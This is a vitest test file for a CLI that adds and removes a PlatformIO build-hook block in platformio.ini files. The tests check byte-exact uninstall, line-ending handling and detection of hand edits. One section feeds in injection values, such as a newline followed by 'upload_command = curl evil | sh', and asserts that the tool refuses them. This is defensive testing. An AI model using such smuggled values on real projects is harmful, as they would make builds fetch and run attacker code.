import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { initCommand } from '../../../src/cli/init';
import { envOption, parseIni, splitMultiValue } from '../../../src/core/platformio/ini';
import {
  type InstallOptions,
  InstallOptionError,
  installIntegration,
  integrationLeftovers,
  isInstalled,
  removeIntegration,
  uninstallIntegration,
} from '../../../src/core/platformio/install';
import { hookScriptText } from '../../../src/core/platformio/integration';

// Debian's python3 starts much faster than a version-manager shim.
const PYTHON = existsSync('/usr/bin/python3') ? '/usr/bin/python3' : 'python3';
const FIX = join(__dirname, '../../fixtures/platformio');
const read = (name: string) => readFileSync(join(FIX, name), 'utf8');

const CASES: { file: string; env: string }[] = [
  { file: 'arduino-basic.ini', env: 'esp32dev' },
  { file: 'camera-extends.ini', env: 'esp32cam' },
  { file: 'camera-extends.ini', env: 'esp32cam_debug' },
  { file: 'windows-crlf.ini', env: 's3' },
  { file: 'c3-own-extra-scripts.ini', env: 'c3' },
  { file: 'c3-own-extra-scripts.ini', env: 'native' },
];

const opts = (env: string, more: Partial<InstallOptions> = {}): InstallOptions => ({
  env,
  libs: ['TinyClassifier', 'ImageFilters'],
  storage: 'sd',
  ...more,
});

/** What PlatformIO would read: Python's configparser with `#` and `;` inline comments, as platformio/project/config.py builds it. */
function pythonRead(text: string, section: string, option: string): string {
  const code = [
    'import configparser, sys',
    'c = configparser.ConfigParser(inline_comment_prefixes=("#", ";"), interpolation=None)',
    'c.read_string(sys.stdin.read())',
    `print(c.get(${JSON.stringify(section)}, ${JSON.stringify(option)}, fallback="<none>"))`,
  ].join('\n');
  const r = spawnSync(PYTHON, ['-c', code], { input: text, encoding: 'utf8' });
  if (r.status !== 0) throw new Error(r.stderr);
  return r.stdout.replace(/\n$/, '');
}

describe('install / uninstall on real-world-shaped platformio.ini files', () => {
  for (const { file, env } of CASES) {
    it(`${file} [env:${env}]: uninstall restores every byte; a second install changes nothing`, () => {
      const original = read(file);
      const installed = installIntegration(original, opts(env, { slots: ['ai: TinyClassifier ImageFilters'] }));
      expect(installed).not.toBe(original);
      expect(isInstalled(installed, env)).toBe(true);
      expect(installIntegration(installed, opts(env, { slots: ['ai: TinyClassifier ImageFilters'] }))).toBe(installed);
      expect(uninstallIntegration(installed, env)).toBe(original);
      expect(uninstallIntegration(installed)).toBe(original);
      // Only lines were added: every original line is still there, in order (the last one
      // may gain a line ending when the block follows it).
      const kept = original.split(/\r?\n/);
      let at = 0;
      for (const line of installed.split(/\r?\n/)) if (line === kept[at]) at++;
      expect(at).toBe(kept.length);
    });

    it(`${file} [env:${env}]: PlatformIO sees the hook after the scripts it already had`, () => {
      const original = read(file);
      const installed = installIntegration(original, opts(env));
      const doc = parseIni(installed);
      const before = splitMultiValue(envOption(parseIni(original), env, 'extra_scripts') ?? '');
      expect(splitMultiValue(envOption(doc, env, 'extra_scripts')!)).toEqual([...before, 'post:memory_manager.py']);
      expect(envOption(doc, env, 'custom_mm_libs')).toBe('TinyClassifier, ImageFilters');
      expect(envOption(doc, env, 'custom_mm_storage')).toBe('sd');
      // configparser agrees (no duplicate options, block parses as PlatformIO reads it).
      expect(pythonRead(installed, `env:${env}`, 'custom_mm_libs')).toBe('TinyClassifier, ImageFilters');
      const py = pythonRead(installed, `env:${env}`, 'extra_scripts');
      if (py !== '<none>')
        expect(
          py
            .split(/[\n,]/)
            .map((s) => s.trim())
            .filter(Boolean)
            .pop(),
        ).toBe('post:memory_manager.py');
    });
  }

  it('keeps CRLF line endings and a missing final newline', () => {
    const original = read('windows-crlf.ini');
    const installed = installIntegration(original, opts('s3'));
    expect(installed.replace(/\r\n/g, '')).not.toContain('\n');
    expect(installed.endsWith('\n')).toBe(false);
    expect(installed).toContain('\r\n\tpost:memory_manager.py\r\n'); // same indent as the other entries
  });

  it('a second install with other options replaces the first', () => {
    const original = read('arduino-basic.ini');
    const a = installIntegration(original, opts('esp32dev'));
    const b = installIntegration(a, opts('esp32dev', { libs: ['Other'], storage: 'littlefs', data: 'psram' }));
    expect(b).toBe(installIntegration(original, opts('esp32dev', { libs: ['Other'], storage: 'littlefs', data: 'psram' })));
    expect(b).not.toContain('TinyClassifier');
    expect(uninstallIntegration(b)).toBe(original);
  });

  it('refuses custom_mm_* options set by hand outside the block', () => {
    const text = read('arduino-basic.ini').replace('monitor_speed', 'custom_mm_libs = X\nmonitor_speed');
    expect(() => installIntegration(text, opts('esp32dev'))).toThrow(/already sets custom_mm_libs \(line \d+\)/);
  });

  it('leaves a user-written post:memory_manager.py entry alone', () => {
    const text = read('c3-own-extra-scripts.ini').replace('post:merge_bin.py', 'post:memory_manager.py');
    const installed = installIntegration(text, opts('c3'));
    expect(installed.match(/post:memory_manager\.py/g)!.length).toBe(1);
    expect(uninstallIntegration(installed)).toBe(text);
  });
});

describe('esp32mm init', () => {
  const dirs: string[] = [];
  const newDir = () => {
    const d = mkdtempSync(join(tmpdir(), 'esp32mm-init-'));
    dirs.push(d);
    return d;
  };
  afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));

  const quiet = async <T>(f: () => Promise<T>): Promise<T> => {
    const log = console.log;
    console.log = () => {};
    try {
      return await f();
    } finally {
      console.log = log;
    }
  };

  it('installs the script and options, then --uninstall restores the file byte for byte', async () => {
    const dir = newDir();
    const original = read('windows-crlf.ini');
    writeFileSync(join(dir, 'platformio.ini'), original);
    const code = await quiet(() =>
      initCommand.run([dir], { libs: 'TinyClassifier,ImageFilters', storage: 'littlefs', slot: ['ai:TinyClassifier,ImageFilters'] }),
    );
    expect(code).toBe(0);
    const script = readFileSync(join(dir, 'memory_manager.py'), 'utf8');
    expect(script).toContain('env.AddPostAction(elf');
    const template = readFileSync(join(__dirname, '../../../firmware/extra_script/memory_manager.py'), 'utf8');
    const withoutCli = (t: string) => t.replace(/^INSTALLED_CLI = .*$/m, '');
    expect(withoutCli(script)).toBe(withoutCli(template));
    const ini = readFileSync(join(dir, 'platformio.ini'), 'utf8');
    expect(ini).toContain('custom_mm_slots = ai: TinyClassifier ImageFilters\r\n');
    expect(ini).toContain('custom_mm_storage = littlefs\r\n');
    // Again: same bytes.
    await quiet(() =>
      initCommand.run([dir], { libs: 'TinyClassifier,ImageFilters', storage: 'littlefs', slot: ['ai:TinyClassifier,ImageFilters'] }),
    );
    expect(readFileSync(join(dir, 'platformio.ini'), 'utf8')).toBe(ini);
    expect(await quiet(() => initCommand.run([dir], { uninstall: true }))).toBe(0);
    expect(readFileSync(join(dir, 'platformio.ini'), 'utf8')).toBe(original);
    expect(existsSync(join(dir, 'memory_manager.py'))).toBe(false);
  });

  it('warns about lib_archive = no and library folders that do not exist', async () => {
    const dir = newDir();
    writeFileSync(join(dir, 'platformio.ini'), read('arduino-basic.ini').replace('monitor_speed', 'lib_archive = no\nmonitor_speed'));
    const errors: string[] = [];
    const err = console.error;
    console.error = (m: string) => errors.push(m);
    try {
      await quiet(() => initCommand.run([dir], { libs: 'Missing', storage: 'sd' }));
    } finally {
      console.error = err;
    }
    expect(errors.join('\n')).toMatch(/lib_archive = no: libraries are then linked as loose objects/);
    expect(errors.join('\n')).toMatch(/no folder .*Missing: the library must be built as libMissing\.a/);
  });

  it('does not overwrite a memory_manager.py it did not write', async () => {
    const dir = newDir();
    writeFileSync(join(dir, 'platformio.ini'), read('arduino-basic.ini'));
    writeFileSync(join(dir, 'memory_manager.py'), '# my own script\n');
    await expect(initCommand.run([dir], { libs: 'A', storage: 'sd' })).rejects.toThrow(/was not written by esp32mm/);
    expect(readFileSync(join(dir, 'platformio.ini'), 'utf8')).toBe(read('arduino-basic.ini'));
  });
});

describe('hostile and hand-edited platformio.ini (issue 14)', () => {
  const BASIC = read('arduino-basic.ini');
  const hooks = (text: string, env: string) =>
    splitMultiValue(envOption(parseIni(text), env, 'extra_scripts') ?? '').filter((s) => s === 'post:memory_manager.py').length;

  it.each([
    ['libs', { libs: ['A\nupload_command = curl evil | sh'] }],
    ['libs (CR)', { libs: ['A\r[env:evil]'] }],
    ['dir', { dir: '/mm\nupload_command = sh -c evil' }],
    ['slot', { slots: ['ai: TinyClassifier\n[env:evil]'] }],
    ['chip', { chip: 'esp32\nupload_command = x' }],
    ['code', { code: 'iram\nupload_command = x' }],
  ])('refuses a line break in %s: no line of its own reaches platformio.ini', (_what, more) => {
    expect(() => installIntegration(BASIC, opts('esp32dev', more as Partial<InstallOptions>))).toThrow(InstallOptionError);
    expect(() => installIntegration(BASIC, opts('esp32dev', more as Partial<InstallOptions>))).toThrow(
      /line break or another control character|cannot be used/,
    );
  });

  it('refuses values PlatformIO would cut at a comment or expand, and library names that are not identifiers', () => {
    expect(() => installIntegration(BASIC, opts('esp32dev', { dir: '/mm ;x' }))).toThrow(/';' or '#' after a space/);
    expect(() => installIntegration(BASIC, opts('esp32dev', { dir: '/mm #x' }))).toThrow(/';' or '#' after a space/);
    expect(() => installIntegration(BASIC, opts('esp32dev', { dir: '/${sysenv.HOME}' }))).toThrow(/expand as a reference/);
    expect(() => installIntegration(BASIC, opts('esp32dev', { dir: 'mm' }))).toThrow(/absolute device path/);
    expect(() => installIntegration(BASIC, opts('esp32dev', { libs: ['../x'] }))).toThrow(/library name '\.\.\/x' cannot be used/);
    expect(() => installIntegration(BASIC, opts('esp32dev', { slots: ['a b: TinyClassifier'] }))).toThrow(/slot name 'a b' cannot be used/);
  });

  it('reads # inline comments as PlatformIO does', () => {
    const doc = parseIni('[env:a]\nboard = esp32dev # the board\nextra_scripts = post:memory_manager.py # our hook\n');
    expect(envOption(doc, 'a', 'board')).toBe('esp32dev');
    expect(envOption(doc, 'a', 'extra_scripts')).toBe('post:memory_manager.py');
  });

  it('does not add a second hook after an entry with a # comment', () => {
    const text = BASIC.replace('monitor_speed', 'extra_scripts = post:memory_manager.py # added by hand\nmonitor_speed');
    const installed = installIntegration(text, opts('esp32dev'));
    expect(hooks(installed, 'esp32dev')).toBe(1);
    expect(pythonRead(installed, 'env:esp32dev', 'extra_scripts')).toBe('post:memory_manager.py');
    expect(uninstallIntegration(installed)).toBe(text);
  });

  it.each([
    ['[env]', '[env]\nextra_scripts = post:memory_manager.py\n\n[env:a]\nboard = esp32dev\n'],
    ['a section it extends', '[common]\nextra_scripts = post:memory_manager.py\n\n[env:a]\nextends = common\nboard = esp32dev\n'],
    [
      'a ${…} reference in its own extra_scripts',
      '[env]\nextra_scripts = post:memory_manager.py\n\n[env:a]\nextra_scripts =\n    ${env.extra_scripts}\n    post:other.py\n',
    ],
  ])('does not add a second hook when it is inherited from %s', (_from, text) => {
    const installed = installIntegration(text, opts('a'));
    expect(hooks(installed, 'a')).toBe(1);
    expect(envOption(parseIni(installed), 'a', 'custom_mm_libs')).toBe('TinyClassifier, ImageFilters');
    expect(uninstallIntegration(installed, 'a')).toBe(text);
  });

  it("writes an install path with $&, $` and $' into memory_manager.py as it is", () => {
    const cli = "/opt/we$&ird/$`x/$'y/cli.js";
    const script = hookScriptText(cli);
    const line = script.split('\n').find((l) => l.startsWith('INSTALLED_CLI = '))!;
    const r = spawnSync(
      PYTHON,
      [
        '-c',
        `import ast, sys\nsrc = sys.stdin.read()\nast.parse(src)\nexec(${JSON.stringify(line.replace(/ {2}#.*$/, ''))})\nprint(INSTALLED_CLI)`,
      ],
      { input: script, encoding: 'utf8' },
    );
    expect(r.stderr).toBe('');
    expect(r.stdout.trim()).toBe(cli);
    const template = readFileSync(join(__dirname, '../../../firmware/extra_script/memory_manager.py'), 'utf8');
    expect(script.replace(line, '')).toBe(template.replace(/^INSTALLED_CLI = .*$/m, ''));
  });

  it('a deleted begin marker is an error naming the line, not "nothing to remove"', () => {
    const installed = installIntegration(BASIC, opts('esp32dev'));
    const damaged = installed
      .split('\n')
      .filter((l) => !l.startsWith('; >>> esp32mm'))
      .join('\n');
    expect(() => uninstallIntegration(damaged)).toThrow(
      /line \d+: the esp32mm block's end marker .* has no begin marker above it in \[env:esp32dev\]/,
    );
    expect(() => installIntegration(damaged, opts('esp32dev'))).toThrow(/has no begin marker/);
  });

  it('with both markers deleted, the lines that still install it are found', () => {
    const installed = installIntegration(BASIC, opts('esp32dev'));
    const bare = installed
      .split('\n')
      .filter((l) => !/^; (>>>|<<<) esp32mm/.test(l))
      .join('\n');
    expect(uninstallIntegration(bare)).toBe(bare);
    const left = integrationLeftovers(bare, 'esp32dev');
    expect(left.map((l) => l.text)).toEqual([
      'extra_scripts = post:memory_manager.py',
      'custom_mm_libs = TinyClassifier, ImageFilters',
      'custom_mm_storage = sd',
    ]);
    expect(bare.split('\n')[left[0].line - 1]).toBe('extra_scripts = post:memory_manager.py');
    expect(integrationLeftovers(BASIC)).toEqual([]);
  });

  it('keeps a line someone added inside the block, and reports it with its line in the result', () => {
    const installed = installIntegration(BASIC, opts('esp32dev'));
    const edited = installed.replace(
      'custom_mm_storage = sd\n',
      'custom_mm_storage = sd\nupload_speed = 921600 ; mine\n; a note of mine\n',
    );
    const { text, kept } = removeIntegration(edited);
    expect(kept.map((k) => k.text)).toEqual(['upload_speed = 921600 ; mine', '; a note of mine']);
    expect(kept.map((k) => text.split('\n')[k.line - 1])).toEqual(['upload_speed = 921600 ; mine', '; a note of mine']);
    expect(text).toBe(BASIC.replace('115200\n', '115200\nupload_speed = 921600 ; mine\n; a note of mine\n'));
    // A new install keeps it too.
    expect(installIntegration(edited, opts('esp32dev'))).toContain('upload_speed = 921600 ; mine\n');
  });
});

describe('esp32mm init on hand-edited projects', () => {
  const project = (ini: string) => {
    const dir = mkdtempSync(join(tmpdir(), 'esp32mm-init-edit-'));
    writeFileSync(join(dir, 'platformio.ini'), ini);
    return dir;
  };
  const capture = async (f: () => Promise<number>) => {
    const out: string[] = [];
    const err: string[] = [];
    const [log, error] = [console.log, console.error];
    console.log = (m: string) => out.push(m);
    console.error = (m: string) => err.push(m);
    try {
      return { code: await f(), out: out.join('\n'), err: err.join('\n') };
    } finally {
      console.log = log;
      console.error = error;
    }
  };

  it('refuses a --libs value with a line break and leaves platformio.ini as it was', async () => {
    const dir = project(read('arduino-basic.ini'));
    await expect(initCommand.run([dir], { libs: 'A\nupload_command = sh -c evil', storage: 'sd' })).rejects.toThrow(/line break/);
    expect(readFileSync(join(dir, 'platformio.ini'), 'utf8')).toBe(read('arduino-basic.ini'));
    expect(existsSync(join(dir, 'memory_manager.py'))).toBe(false);
  });

  it('--uninstall with the begin marker deleted fails and keeps the hook script', async () => {
    const dir = project(read('arduino-basic.ini'));
    await capture(() => initCommand.run([dir], { libs: 'TinyClassifier', storage: 'sd' }));
    const ini = join(dir, 'platformio.ini');
    const damaged = readFileSync(ini, 'utf8')
      .split('\n')
      .filter((l) => !l.startsWith('; >>> esp32mm'))
      .join('\n');
    writeFileSync(ini, damaged);
    await expect(initCommand.run([dir], { uninstall: true })).rejects.toThrow(/has no begin marker/);
    const bare = damaged
      .split('\n')
      .filter((l) => !l.startsWith('; <<< esp32mm'))
      .join('\n');
    writeFileSync(ini, bare);
    await expect(initCommand.run([dir], { uninstall: true })).rejects.toThrow(
      /no esp32mm block, but these lines still install the build integration:\n {2}line \d+: extra_scripts = post:memory_manager\.py/,
    );
    expect(readFileSync(ini, 'utf8')).toBe(bare);
    expect(existsSync(join(dir, 'memory_manager.py'))).toBe(true);
  });

  it('--uninstall says which lines added inside the block stayed', async () => {
    const dir = project(read('arduino-basic.ini'));
    await capture(() => initCommand.run([dir], { libs: 'TinyClassifier', storage: 'sd' }));
    const ini = join(dir, 'platformio.ini');
    writeFileSync(ini, readFileSync(ini, 'utf8').replace('custom_mm_storage = sd\n', 'custom_mm_storage = sd\nupload_speed = 921600\n'));
    const r = await capture(() => initCommand.run([dir], { uninstall: true }));
    expect(r.code).toBe(0);
    expect(r.err).toMatch(
      /this line was added inside the esp32mm block, so it is not esp32mm's and stayed:\n {2}line 16: upload_speed = 921600/,
    );
    expect(readFileSync(ini, 'utf8')).toBe(read('arduino-basic.ini').replace('115200\n', '115200\nupload_speed = 921600\n'));
  });

  it('--uninstall --env of an environment that does not exist is bad usage, not "nothing to remove"', async () => {
    const dir = project(read('arduino-basic.ini'));
    await expect(initCommand.run([dir], { uninstall: true, env: 'nosuch' })).rejects.toThrow(/no \[env:nosuch\]; environments: esp32dev/);
  });
});
